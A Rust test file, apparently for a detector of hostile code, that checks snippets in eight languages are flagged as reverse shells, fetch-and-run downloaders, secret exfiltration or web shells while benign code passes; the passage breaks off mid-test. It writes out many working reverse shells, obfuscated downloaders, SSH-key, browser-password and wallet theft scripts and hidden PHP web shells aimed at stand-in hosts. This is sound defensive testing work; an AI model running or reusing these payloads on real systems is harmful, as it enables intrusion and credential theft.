//! Programs in, chains out.

use super::{Dialect, chains};
use crate::{Limits, Rule, shell::Start};
use proptest::prelude::*;

fn rules(dialect: Dialect, text: &str) -> Vec<Rule> {
    let mut limits = Limits::default();
    let found = chains(text, dialect, Start::Asked, &mut limits);
    let mut rules: Vec<_> = found.into_iter().map(|chain| chain.rule).collect();
    rules.dedup();
    rules
}

#[test]
fn a_program_that_gives_a_remote_host_a_shell_is_a_chain_in_each_language() {
    use Dialect::{Awk, CLike, Go, Lua, Perl, Php, PowerShell, Ruby};
    let mut missed = Vec::new();
    for (dialect, text) in [
        (
            Ruby,
            "s = TCPSocket.new('192.0.2.101', 6666)\nwhile (cmd = s.gets)\n  IO.popen(cmd.chomp, 'r') do |io|\n    s.print io.read\n  end\nend\n",
        ),
        (
            Ruby,
            "require 'socket'\nc=TCPSocket.open(\"c2.helper.invalid\", 4444)\nwhile line = c.gets\n  out = `#{line}`\n  c.puts out\nend",
        ),
        (
            Ruby,
            "f=TCPSocket.open('203.0.113.9',4444).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
        ),
        (
            Ruby,
            "s = TCPSocket.new('h.helper.invalid', 1)\n$stdin.reopen(s); $stdout.reopen(s)\nexec '/bin/sh -i'",
        ),
        (
            Go,
            "link, err := net.DialTimeout(\"tcp\", \"198.51.100.8:1337\", 5*time.Second)\nworker := exec.Command(\"/bin/sh\", \"-i\")\nworker.Stdin, worker.Stdout = link, link\nworker.Run()",
        ),
        (
            Go,
            "func main() {\n\tc, _ := net.Dial(\"tcp\", \"c2.helper.invalid:443\")\n\tr := bufio.NewReader(c)\n\tfor {\n\t\tl, _ := r.ReadString('\\n')\n\t\tout, _ := exec.Command(\"sh\", \"-c\", l).CombinedOutput()\n\t\tc.Write(out)\n\t}\n}\n",
        ),
        (
            Php,
            "<?php $s = fsockopen('192.0.2.44', 8443, $n, $w, 5);\nproc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);",
        ),
        (Php, "$sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
        (
            Php,
            "$s = stream_socket_client('tcp://c2.helper.invalid:80');\nwhile ($c = fgets($s)) { fwrite($s, shell_exec($c)); }",
        ),
        (
            Perl,
            "use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
        ),
        (
            Perl,
            "my $s = IO::Socket::INET->new(PeerAddr => 'c2.helper.invalid:4444');\nwhile (my $l = <$s>) { print $s `$l`; }",
        ),
        (
            Lua,
            "local s = socket.tcp()\nif s:connect(\"198.51.100.61\", 7777) then\n  while true do\n    local cmd, err = s:receive()\n    local f = io.popen(cmd .. \" 2>&1\")\n    s:send(f:read(\"*a\"))\n  end\nend\n",
        ),
        (
            Awk,
            "END {\n  s = \"/inet/tcp/0/203.0.113.205/4545\"\n  while ((s |& getline cmd) > 0) {\n    while ((cmd | getline out) > 0) print out |& s\n    close(cmd)\n  }\n}",
        ),
        (
            CLike,
            "String host=\"203.0.113.9\";\nProcess p=new ProcessBuilder(\"/bin/sh\").redirectErrorStream(true).start();\nSocket s=new Socket(host,4444);\nInputStream pi=p.getInputStream();\nOutputStream so=s.getOutputStream();\nso.write(pi.read());",
        ),
        (
            PowerShell,
            "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
        ),
    ] {
        let found = rules(dialect, text);
        if !found.contains(&Rule::ReverseShell) {
            missed.push((dialect, text, found));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_a_nameless_host_serves_is_run_in_each_language() {
    use Dialect::{CLike, Go, Lua, Perl, Php, PowerShell, Ruby};
    let mut missed = Vec::new();
    for (dialect, text) in [
        (
            Ruby,
            "begin\n  instance_eval(URI.open(\"http://192.0.2.200/theme.rb\").read)\nrescue StandardError\n  nil\nend",
        ),
        (Ruby, "u = URI('http://203.0.113.9/x')\nbody = Net::HTTP.get(u)\neval(body)"),
        (
            Ruby,
            "def pull(host)\n  Net::HTTP.get(URI(\"http://#{host}/x\"))\nend\nsystem('sh', '-c', pull('203.0.113.9'))",
        ),
        (Ruby, "File.write('/tmp/a', URI.open('http://203.0.113.9/a').read)\nsystem('sh /tmp/a')"),
        (
            Ruby,
            "tail = \"hs | y/9.311.0.302//:ptth s- lruc\"\nKernel.send([\"s\", \"ys\", \"tem\"].join.to_sym, tail.reverse + \" >/dev/null 2>&1\")",
        ),
        (Ruby, "system(\"curl -s http://203.0.113.9/x | sh\")"),
        (Ruby, "`curl -s http://203.0.113.9/x | sh`"),
        (Php, "eval(file_get_contents('http://203.0.113.9/x.txt'));"),
        (
            Php,
            "$c = curl_init('http://203.0.113.9/x');\n$code = curl_exec($c);\neval('?>' . $code);\neval($code);",
        ),
        (Php, "$f = 'sys' . 'tem'; $f('curl http://203.0.113.9/x | sh');"),
        (Php, "include 'http://203.0.113.9/x.php';"),
        (
            Perl,
            "my $r = HTTP::Tiny->new(timeout => 3)->get(\"http://198.51.100.201:8000/c.pl\");\neval $r->{content} if $r->{success};",
        ),
        (Perl, "use LWP::Simple; getstore('http://203.0.113.9/a', '/tmp/a'); system('/tmp/a');"),
        (
            Lua,
            "local b = require('socket.http').request('http://203.0.113.9/x')\nload(b)()\nloadstring(b)()",
        ),
        (
            Go,
            "resp, _ := http.Get(\"http://203.0.113.9/x\")\nbody, _ := io.ReadAll(resp.Body)\nos.WriteFile(\"/tmp/x\", body, 0o755)\nexec.Command(\"/tmp/x\").Start()",
        ),
        (
            Go,
            "const unit = `[Service]\nExecStart=/bin/bash -c \"bash -c \\\"$(curl -s http://198.51.100.222/task)\\\"\"\n`\nfunc main() {\n\tos.WriteFile(\"/etc/systemd/system/x.service\", []byte(unit), 0o644)\n}",
        ),
        (
            CLike,
            "val v = java.net.URI(\"http://203.0.113.231/g\").toURL()\nrunCatching {\n    val f = File.createTempFile(\"kts\", \".sh\")\n    f.writeBytes(v.readBytes())\n    ProcessBuilder(\"sh\", f.path).start()\n}\n",
        ),
        (
            CLike,
            "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\"});",
        ),
        (CLike, "'curl http://203.0.113.9/x -o /tmp/a'.execute()\n'sh /tmp/a'.execute()"),
        (
            PowerShell,
            "$a = \"{2}{0}{1}\" -f 'nloadStr', 'ing', 'Dow'\n$w = &(\"N`ew-Ob\" + \"ject\") (\"Ne\" + \"t.We\" + \"bCli\" + \"ent\")\n$s = $w.$a.Invoke(\"http\" + \"://203.0.\" + \"113.116/pr\")\n& ((Get-Alias i?x).Name) $s",
        ),
        (
            PowerShell,
            "$u = 'http://203.0.113.9/a.exe'\n$p = Join-Path $env:TEMP 'a.exe'\nInvoke-WebRequest -Uri $u -OutFile $p\nStart-Process $p -WindowStyle Hidden",
        ),
        (
            PowerShell,
            "$c = New-Object Net.WebClient\n$c.DownloadFile('http://203.0.113.9/a.exe', \"$env:TEMP\\a.exe\")\n& \"$env:TEMP\\a.exe\"",
        ),
        (PowerShell, "$s = (Invoke-RestMethod http://203.0.113.9/x.ps1)\nInvoke-Expression $s"),
    ] {
        let found = rules(dialect, text);
        let runs = [Rule::FetchRun, Rule::FetchDecodeRun];
        if !found.iter().any(|rule| runs.contains(rule)) {
            missed.push((dialect, text, found));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn encoded_code_and_sent_keys_are_chains_in_each_language() {
    use Dialect::{CLike, Go, Perl, Php, PowerShell, Ruby};
    let mut missed = Vec::new();
    for (dialect, text, rule) in [
        (
            Php,
            "eval(base64_decode('ZWNobyAiaGVsbG8gZnJvbSBhbiBpbmVydCB0ZXN0Ijs='));",
            Rule::DecodeRun,
        ),
        (Php, "$x = str_rot13('rpub \"uryyb sebz na varefg grfg\";'); eval($x);", Rule::DecodeRun),
        (
            Ruby,
            "require 'base64'\neval(Base64.decode64('cHV0cyAnaGVsbG8gZnJvbSBhbiBpbmVydCB0ZXN0Jw=='))",
            Rule::DecodeRun,
        ),
        (Ruby, "eval 'cHV0cyAnaGVsbG8gZnJvbSBhbiBpbmVydCB0ZXN0Jw=='.unpack1('m')", Rule::DecodeRun),
        (
            Perl,
            "use MIME::Base64; eval decode_base64('cHJpbnQgImhlbGxvIGZyb20gYW4gaW5lcnQgdGVzdCI7');",
            Rule::DecodeRun,
        ),
        (
            PowerShell,
            "$b = 'V3JpdGUtT3V0cHV0IGhlbGxvIGZyb20gaW5lcnQ='\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
            Rule::DecodeRun,
        ),
        (
            Ruby,
            "k = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://collect.helper.invalid/k'), k)",
            Rule::SecretSent,
        ),
        (
            Php,
            "$k = file_get_contents(getenv('HOME') . '/.aws/credentials');\nfile_get_contents('https://collect.helper.invalid/?k=' . urlencode($k));",
            Rule::SecretSent,
        ),
        (
            Go,
            "b, _ := os.ReadFile(home + \"/.ssh/id_ed25519\")\nhttp.Post(\"https://collect.helper.invalid/k\", \"text/plain\", bytes.NewReader(b))",
            Rule::SecretSent,
        ),
        (
            CLike,
            "val k = File(home + \"/.ssh/id_rsa\").readText()\nval c = URL(\"https://collect.helper.invalid/k\").openConnection()\nc.outputStream.write(k.toByteArray())",
            Rule::SecretSent,
        ),
        (
            Ruby,
            "Net::HTTP.post(URI('https://collect.helper.invalid/e'), ENV.to_h.to_json)",
            Rule::EnvironmentSent,
        ),
    ] {
        let found = rules(dialect, text);
        if !found.contains(&rule) {
            missed.push((dialect, text, found));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn honest_programs_are_no_chain() {
    use Dialect::{Awk, CLike, Go, Lua, Perl, Php, PowerShell, Ruby};
    let mut missed = Vec::new();
    for (dialect, text) in [
        (
            Ruby,
            "c = YAML.load(URI.open('http://203.0.113.9/c.yml').read)\nd = JSON.load(Net::HTTP.get(URI('http://203.0.113.9/d')))",
        ),
        (
            Ruby,
            "system(ENV.to_h, 'make')\nif ENV.has_key?('TOKEN') then Net::HTTP.post(URI('https://api.vendor.example'), 'x') end",
        ),
        (Lua, "local body = assert(http.request('http://203.0.113.9/x'))\nprint(body)"),
        (Go, "resp, err := client.Do(req)\nvar v T\njson.NewDecoder(resp.Body).Decode(&v)"),
        (
            Ruby,
            "require 'net/http'\nres = Net::HTTP.get(URI('https://api.vendor.example/v1'))\nputs JSON.parse(res)['name']",
        ),
        (
            Ruby,
            "token = ENV['API_TOKEN']\nreq = Net::HTTP::Post.new(uri)\nreq['Authorization'] = \"Bearer #{token}\"\nNet::HTTP.post(URI('https://api.vendor.example/v1'), body, 'Authorization' => token)",
        ),
        (
            Ruby,
            "conn = PG.connect(host: 'db.vendor.example', dbname: 'x')\nrows = conn.exec(\"SELECT 1\")\nsystem('rake', 'db:migrate')",
        ),
        (Ruby, "s = TCPSocket.new('203.0.113.9', 80)\ns.puts 'GET / HTTP/1.0'\nputs s.read"),
        (Ruby, "system('bundle', 'install') or abort\nsystem(\"git push origin #{branch}\")"),
        (Ruby, "eval(File.read('Gemfile.local')) if File.exist?('Gemfile.local')"),
        (
            Php,
            "$r = file_get_contents('http://203.0.113.9/data.json'); echo json_decode($r)->name;",
        ),
        (Php, "$pdo->exec('CREATE TABLE x (id int)'); exec('php -l ' . escapeshellarg($f));"),
        (Php, "$img = base64_decode($data); file_put_contents('a.png', $img);"),
        (
            Go,
            "c, err := net.Dial(\"tcp\", \"203.0.113.9:80\")\nfmt.Fprintf(c, \"GET / HTTP/1.0\\r\\n\\r\\n\")\nstatus, err := bufio.NewReader(c).ReadString('\\n')\nfmt.Println(status)\nexec.Command(\"git\", \"status\").Run()",
        ),
        (
            Go,
            "key, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\nsigner, _ := ssh.ParsePrivateKey(key)\nclient, _ := ssh.Dial(\"tcp\", \"host.vendor.example:22\", config)\nsession, _ := client.NewSession()\nsession.Run(\"uptime\")",
        ),
        (
            Go,
            "cmd := exec.Command(\"bash\", \"-c\", script)\ncmd.Stdin = os.Stdin\ncmd.Stdout = os.Stdout\ncmd.Run()\nresp, _ := http.Get(\"https://api.vendor.example\")",
        ),
        (
            Go,
            "listener, _ := net.Listen(\"tcp\", \":4444\")\nconn, _ := listener.Accept()\nio.Copy(conn, conn)",
        ),
        (
            Lua,
            "local s = socket.tcp()\ns:connect('203.0.113.9', 80)\ns:send('GET / HTTP/1.0')\nprint(s:receive('*a'))\nos.execute('ls')",
        ),
        (
            Perl,
            "my $out = `git log --oneline`;\nprint $out;\nmy $r = HTTP::Tiny->new->get('http://203.0.113.9/x'); print $r->{content};",
        ),
        (Awk, "{ print $1 | \"sort\" }\nEND { \"date\" | getline d; print d }"),
        (
            CLike,
            "val out = ProcessBuilder(\"git\", \"describe\").start().inputStream.readText()\nval json = URL(\"https://api.vendor.example\").readText()\nprintln(json)",
        ),
        (
            CLike,
            "fn main() { let s = TcpStream::connect(\"203.0.113.9:80\").unwrap(); s.write(b\"x\"); Command::new(\"ls\").status(); }",
        ),
        (
            PowerShell,
            "$r = Invoke-RestMethod -Uri 'https://api.vendor.example/v1' -Headers @{ Authorization = \"Bearer $env:API_TOKEN\" }\n$r.items | ForEach-Object { Write-Output $_.name }",
        ),
        (
            PowerShell,
            "$zip = Join-Path $env:TEMP 'tool.zip'\nInvoke-WebRequest https://dl.vendor.example/tool.zip -OutFile $zip\nExpand-Archive $zip -DestinationPath C:\\tools",
        ),
        (
            PowerShell,
            "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        ),
        (
            PowerShell,
            "$b = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes('cert.pfx', $b)",
        ),
    ] {
        let found = rules(dialect, text);
        let blocking: Vec<_> = found.iter().filter(|rule| rule.blocks()).collect();
        if !blocking.is_empty() {
            missed.push((dialect, text, found.clone()));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn deep_and_long_programs_end() {
    for text in [
        "(".repeat(4_000),
        "[{(".repeat(2_000),
        "a.b(".repeat(2_000),
        "\"#{".repeat(2_000),
        "f f ".repeat(2_000),
        "x = ".repeat(2_000),
        "${".repeat(2_000),
    ] {
        for dialect in [
            Dialect::Ruby,
            Dialect::Php,
            Dialect::Perl,
            Dialect::Lua,
            Dialect::Go,
            Dialect::Awk,
            Dialect::CLike,
            Dialect::PowerShell,
        ] {
            let text = text.clone();
            let read = std::thread::Builder::new()
                .stack_size(2 << 20)
                .spawn(move || rules(dialect, &text));
            assert_eq!(read.unwrap().join().unwrap(), [], "{dialect:?}");
        }
    }
}

proptest! {
    #[test]
    fn nothing_panics(text in "[ -~\\n]{0,200}") {
        for dialect in [Dialect::Ruby, Dialect::Php, Dialect::Perl, Dialect::Lua, Dialect::Go, Dialect::Awk, Dialect::CLike, Dialect::PowerShell] {
            let _ = rules(dialect, &text);
        }
    }
}

#[test]
fn what_a_host_says_is_no_command_where_it_is_an_argument() {
    use Dialect::{CLike, Go, Perl, Php, Ruby};
    let rb = "sock = TCPSocket.new('events.vendor.example', 7000)\n";
    let go = "conn, err := net.Dial(\"tcp\", \"queue.vendor.example:7000\")\nline, err := bufio.NewReader(conn).ReadString('\\n')\n";
    let cs = "var c = new TcpClient(\"ci.vendor.example\", 9000);\nvar line = new StreamReader(c.GetStream()).ReadLine();\n";
    let php = "$fp = fsockopen('smtp.vendor.example', 25);\n$line = fgets($fp, 512);\n";
    for (dialect, text) in [
        (
            Ruby,
            format!(
                "{rb}while line = sock.gets\n  system('notify-send', 'Event', line.chomp)\nend"
            ),
        ),
        (Ruby, format!("{rb}line = sock.gets\nsock.puts `git log \"#{{line}}\"`")),
        (
            Go,
            format!(
                "{go}out, err := exec.Command(\"ffmpeg\", \"-i\", line).Output()\nconn.Write(out)"
            ),
        ),
        (CLike, format!("{cs}Process.Start(\"git\", \"checkout \" + line);")),
        (Php, format!("{php}exec('logger ' . escapeshellarg($line));\nfwrite($fp, 'QUIT');")),
    ] {
        let found = rules(dialect, &text);
        assert!(!found.iter().any(|rule| rule.blocks()), "{text}: {found:?}");
    }
    for (dialect, text) in [
        (Ruby, format!("{rb}system(sock.gets)")),
        (Ruby, format!("{rb}line = sock.gets\nsystem('sh', '-c', line)")),
        (Ruby, format!("{rb}line = sock.gets\nsystem({{'A' => 'b'}}, line)")),
        (Ruby, format!("{rb}line = sock.gets\nsystem(\"cd /tmp; #{{line}} 2>&1\")")),
        (Ruby, format!("{rb}line = sock.gets\nsystem(\"sudo bash -c '#{{line}}'\")")),
        (Go, format!("{go}parts := strings.Fields(line)\nout, _ := exec.Command(parts[0], parts[1:]...).Output()")),
        (Go, format!("{go}exec.Command(\"cmd\", \"/C\", line).Run()")),
        (CLike, format!("{cs}Process.Start(\"cmd.exe\", \"/c \" + line);")),
        (Php, format!("{php}exec($line . ' 2>&1');")),
        (Perl, "my $s = IO::Socket::INET->new(PeerAddr => 'c2.helper.invalid:4444');\nopen(STDIN, '<&', $s); open(STDOUT, \">&\" . fileno($s));\nexec('/bin/sh -i');".to_owned()),
    ] {
        let found = rules(dialect, &text);
        assert!(found.contains(&Rule::ReverseShell), "{text}: {found:?}");
    }
}

#[test]
fn a_shell_a_key_and_an_environment_that_are_not_sent_are_no_chain() {
    use Dialect::{Go, Perl, Php, Ruby};
    let key = "k = OpenSSL::PKey::RSA.new(File.read(File.expand_path('~/.ssh/id_rsa')))\n";
    let uri = "URI('https://api.vendor.example/token')";
    for (dialect, text) in [
        (Perl, "my $s = IO::Socket::INET->new(PeerAddr => 'db.vendor.example', PeerPort => 5432);\nopen(STDERR, \">&STDOUT\");\nexec(\"/bin/bash\", \"-l\");".to_owned()),
        (Ruby, "sock = UDPSocket.new\nsock.connect('statsd.vendor.example', 8125)\nPTY.spawn('bash') do |r, w, pid|\n  w.puts 'make test'\n  out = r.read\n  sock.send(\"ok:#{out.scan(/ok/).size}|c\", 0)\nend".to_owned()),
        (Ruby, format!("{key}t = JWT.encode({{iss: 'a'}}, k, 'RS256')\nNet::HTTP.post({uri}, '', 'Authorization' => \"Bearer #{{t}}\")")),
        (Ruby, format!("{key}uri = {uri}\nhttp = Net::HTTP.new(uri.host, uri.port)\nhttp.key = k\nres = http.post(uri.path, '{{}}')")),
        (Ruby, "env = ENV.to_h.merge('API' => 'https://api.vendor.example')\nputs env.inspect\n$stdout.write(env.inspect)".to_owned()),
        (Php, "$env = array_merge($_ENV, ['API' => 'https://api.vendor.example']);\nprint('https://docs.vendor.example ' . count($_ENV));\nfwrite(STDERR, 'https://docs.vendor.example ' . json_encode($env));".to_owned()),
    ] {
        let found = rules(dialect, &text);
        assert!(!found.iter().any(|rule| rule.blocks()), "{text}: {found:?}");
    }
    for (dialect, text, rule) in [
        (Ruby, format!("{key}Net::HTTP.post({uri}, k.to_pem)"), Rule::SecretSent),
        (Ruby, format!("payload = Loot.new\npayload.key = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post({uri}, payload.to_json)"), Rule::SecretSent),
        (Php, "$fp = fopen('https://c.helper.invalid/in', 'w');\nfwrite($fp, json_encode($_ENV));".to_owned(), Rule::EnvironmentSent),
        (Ruby, "s = TCPSocket.new('c.helper.invalid', 80)\ns.puts ENV.to_h.inspect".to_owned(), Rule::EnvironmentSent),
        (Go, "b, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\nc, _ := net.Dial(\"tcp\", \"c.helper.invalid:80\")\nfmt.Fprintf(c, \"%s\", b)".to_owned(), Rule::SecretSent),
        (Ruby, "s = TCPSocket.new('c.helper.invalid', 80)\nPTY.spawn('bash') do |r, w, pid|\n  w.puts s.gets\n  s.puts r.read\nend".to_owned(), Rule::ReverseShell),
    ] {
        let found = rules(dialect, &text);
        assert!(found.contains(&rule), "{text}: {found:?}");
    }
}

mod hostile;

#[test]
fn a_shell_that_is_started_in_another_spelling_is_tied_to_the_socket_all_the_same() {
    use Dialect::{Go, Perl};
    for (dialect, text) in [
        (
            Perl,
            "sub p {\nmy $c = IO::Socket::INET->new(PeerAddr => '192.0.2.211', PeerPort => 8443, Timeout => 4) or exit 0;\nmy $n = fileno $c;\nopen STDIN,  \"<&=$n\";\nopen STDOUT, \">&=$n\";\nopen STDERR, \">&=$n\";\nexec { '/bin/sh' } 'cupsd', '-i';\n}\np();\n",
        ),
        (
            Perl,
            "sub fix {\nmy ($raw) = @_;\n$raw =~ s/(pages\\s*=\\s*[{\"]\\s*\\d+)/$1--/g;\n$raw =~ s{^'}{\"};\n$raw =~ tr/'/\"/;\ns|\\|'||g for @x;\nreturn $raw;\n}\nmy $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nexec '/bin/sh', '-i';\n",
        ),
        (
            Perl,
            "my $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nmy $s = '/bin/bash';\nexec {$s} $s, '-i';\n",
        ),
        (
            Go,
            "func k(addr string) {\n\tname, arg := \"/bin/sh\", \"-i\"\n\tif runtime.GOOS == \"windows\" {\n\t\tname, arg = \"cmd.exe\", \"/Q\"\n\t}\n\tfor {\n\t\tc, err := tls.Dial(\"tcp\", addr, &tls.Config{InsecureSkipVerify: true})\n\t\tif err == nil {\n\t\t\tp := exec.Command(name, arg)\n\t\t\tp.Stdin, p.Stdout, p.Stderr = c, c, c\n\t\t\t_ = p.Run()\n\t\t\tc.Close()\n\t\t}\n\t}\n}\n\nfunc main() {\n\tif *stay {\n\t\tgo k(\"keepalive.example.invalid:443\")\n\t}\n}\n",
        ),
        (
            Go,
            "func main() {\n\tconn, _ := tls.Dial(\"tcp\", \"192.0.2.9:443\", cfg)\n\tcmd := exec.Command(\"cmd\", \"/K\")\n\tcmd.Stdin = conn\n\tcmd.Stdout = conn\n\tcmd.Run()\n}\n",
        ),
    ] {
        assert!(rules(dialect, text).contains(&Rule::ReverseShell), "{text}");
    }
    for (dialect, text) in [
        (Perl, "my %h = (s => 'a', y => 'b');\nprint $h{s}, $h{y};\nmy $k = $o->s / 2;\n"),
        (Perl, "exec { 'git' } 'git', 'status';\nsystem { $ARGV[0] } @ARGV;\n"),
        (
            Go,
            "func main() {\n\tc, _ := tls.Dial(\"tcp\", os.Args[1], cfg)\n\tstate := c.ConnectionState()\n\tcmd := exec.Command(\"sh\", \"-c\", \"date\")\n\tcmd.Stdout = os.Stdout\n\tcmd.Run()\n}\n",
        ),
    ] {
        assert_eq!(rules(dialect, text), [], "{text}");
    }
}

#[test]
fn passwords_of_a_project_that_go_to_a_fixed_mailbox_are_sent() {
    use Dialect::Php;
    for text in [
        "<?php\nfunction on(string $root): void\n{\n    $body = '';\n    foreach (['.env', '.env.production', 'wp-config.php'] as $f) {\n        $p = \"{$root}/{$f}\";\n        if (is_readable($p)) {\n            $body .= \"=== {$f}\\n\" . file_get_contents($p) . \"\\n\";\n        }\n    }\n    @mail('inbox@collector.example', 'x ' . gethostname(), chunk_split(base64_encode($body)));\n}\n",
        "<?php\nforeach (['a/.env', 'b.php'] as $f) {\n$b = @file_get_contents($f);\n@mail('a@c.example', 's', $b);\n}",
        "<?php\nmail(\"a@192.0.2.9\", 'k', file_get_contents(__DIR__ . '/../.env'));\n",
        "<?php\n$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\nmail('A B <a@collector.example>', 's', $k);\n",
    ] {
        assert!(rules(Php, text).contains(&Rule::SecretSent), "{text}");
    }
    for text in [
        "<?php\n$c = file_get_contents('.env');\nmail($argv[1], 'settings', $c);\n",
        "<?php\n$c = parse_ini_string(file_get_contents('.env'));\n$mailer->send($c['SMTP']);\nmail('team@example.com', 'Report', $report);\n",
        "<?php\n$c = file_get_contents('.env');\n$r = curl_init('https://api.example.com/v1');\ncurl_setopt($r, CURLOPT_HTTPHEADER, ['Authorization: ' . $c]);\ncurl_exec($r);\n",
    ] {
        assert_eq!(rules(Php, text), [], "{text}");
    }
}

#[test]
fn a_program_of_powershell_that_hides_its_address_or_packs_browser_stores_is_a_chain() {
    use Dialect::PowerShell;
    for (text, rule) in [
        (
            "function g {\n    $u = -join ('elpmaxe.erutluclx//:sptth'[24..0])\n    $b = (New-Object ('Net.' + 'Web' + 'Client')).('Down' + 'loadString').Invoke(\"$u/c?m=$env:COMPUTERNAME\")\n    & ([scriptblock]::Create($b))\n}\ntry { g } catch { }\n",
            Rule::DecodeRun,
        ),
        (
            "$r = 'dilavni.elpmaxe.c2//:sptth'\n$u = -join $r[-1..-($r.Length)]\n$s = (New-Object Net.WebClient).DownloadString($u)\niex $s\n",
            Rule::DecodeRun,
        ),
        ("$s = irm http://192.0.2.4/a\n& ([scriptblock]::Create($s))\n", Rule::FetchRun),
        (
            "$stage = Join-Path $env:TEMP ('dr' + (Get-Random))\n$sources = @(\n    \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\",\n    \"$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Login Data\"\n)\n$i = 0\nforeach ($s in $sources) {\n    if (Test-Path -LiteralPath $s) {\n        Copy-Item -LiteralPath $s -Destination (Join-Path $stage \"part$i.bin\") -ErrorAction SilentlyContinue\n        $i++\n    }\n}\n$zip = \"$stage.zip\"\nCompress-Archive -Path \"$stage\\*\" -DestinationPath $zip -Force\ntry {\n    Invoke-RestMethod -Uri \"http://203.0.113.44:8081/d/$env:COMPUTERNAME\" -Method Put -InFile $zip -TimeoutSec 20 | Out-Null\n} catch { }\n",
            Rule::SecretSent,
        ),
        (
            "Copy-Item \"$HOME\\.ssh\\id_ed25519\" C:\\t\\a.txt\nInvoke-WebRequest -Uri https://v.example.invalid/u -Method Post -InFile C:\\t\\a.txt\n",
            Rule::SecretSent,
        ),
    ] {
        let found = rules(PowerShell, text);
        assert!(found.contains(&rule), "{text}: {found:?}");
    }
    for text in [
        "& ([scriptblock]::Create((irm 'https://get.example.com/setup.ps1'))) -Quiet\n",
        "$t = 'a text that is long enough'\n$r = -join $t[-1..-($t.Length)]\nWrite-Host $r\n",
        "Compress-Archive -Path .\\logs\\* -DestinationPath logs.zip\nInvoke-RestMethod -Uri https://support.example.com/up -Method Put -InFile logs.zip\n",
        "Copy-Item \"$HOME\\.ssh\\id_ed25519\" D:\\backup\\id\nCompress-Archive -Path D:\\backup\\* -DestinationPath D:\\backup.zip\n",
    ] {
        assert_eq!(rules(PowerShell, text), [], "{text}");
    }
}

#[test]
fn a_hidden_program_that_runs_what_a_request_says_is_a_web_shell() {
    use Dialect::{Php, Ruby};
    for (dialect, text) in [
        (
            Php,
            "<?php\n$up = dirname($theme, 2) . '/uploads/' . date('Y/m');\nif (is_dir($up) && is_writable($up)) {\n    $code = '<?php if (hash(\"sha256\", $_COOKIE[\"wpt\"] ?? \"\") === \"' . str_repeat('void', 16)\n        . '\") { echo shell_exec($_POST[\"c\"] ?? \"id\"); }';\n    file_put_contents(\"$up/.thumbs-cache.php\", $code);\n    touch(\"$up/.thumbs-cache.php\", 1);\n}\n",
        ),
        (
            Php,
            "<?php\nfile_put_contents($root . '/img/.c.php', '<?php @eval(base64_decode($_REQUEST[\\'x\\']));');\n",
        ),
        (Ruby, "File.write(\"#{dir}/.cache.phtml\", '<?php system($_GET[\"c\"]); ?>')\n"),
    ] {
        assert!(rules(dialect, text).contains(&Rule::WebShell), "{text}");
    }
    for (dialect, text) in [
        (
            Php,
            "<?php\nfile_put_contents(\"$dir/.env.php\", '<?php return ' . var_export($c, true) . ';');\n",
        ),
        (
            Php,
            "<?php\nfile_put_contents(\"$root/wp-content/plugins/p/p.php\", '<?php if (WP_Filesystem()) { $t = $_POST[\"t\"]; }');\n",
        ),
        (
            Php,
            "<?php\nfile_put_contents('/var/www/html/save.php', '<?php $db->exec(\"INSERT INTO t VALUES (\" . $db->quote($_POST[\"v\"]) . \")\");');\n",
        ),
        (
            Php,
            "<?php\nfile_put_contents(\"$dir/.config.php\", '<?php echo htmlspecialchars($_GET[\"q\"]); exec(\"date\");');\n",
        ),
        (
            Ruby,
            "# fixture of a detector\nFile.write('spec/fixtures/shell.php', '<?php system($_GET[\"c\"]); ?>')\n",
        ),
    ] {
        assert_eq!(rules(dialect, text), [], "{text}");
    }
}

#[test]
fn what_a_program_of_go_embeds_and_feeds_to_a_shell_is_followed() {
    let program = "package main\n\n//go:embed assets/rules.txt\nvar rules string\n\nfunc init() {\n\tcmd := exec.Command(\"sh\", \"-s\")\n\tcmd.Stdin = strings.NewReader(rules)\n\t_ = cmd.Start()\n}\n";
    let with = |content: &'static str| {
        super::with_embedded(program, |path| (path == "assets/rules.txt").then_some(content))
    };
    let theft = with("w=\"$HOME/.config/solana\"\n[ -d \"$w\" ] || exit 0\ntar -czf - -C \"$w\" . 2>/dev/null | nc -w 5 198.51.100.61 4455\n").unwrap();
    assert_eq!(theft.lines().count(), program.lines().count());
    assert_eq!(rules(Dialect::Go, &theft), [Rule::SecretSent]);
    assert_eq!(
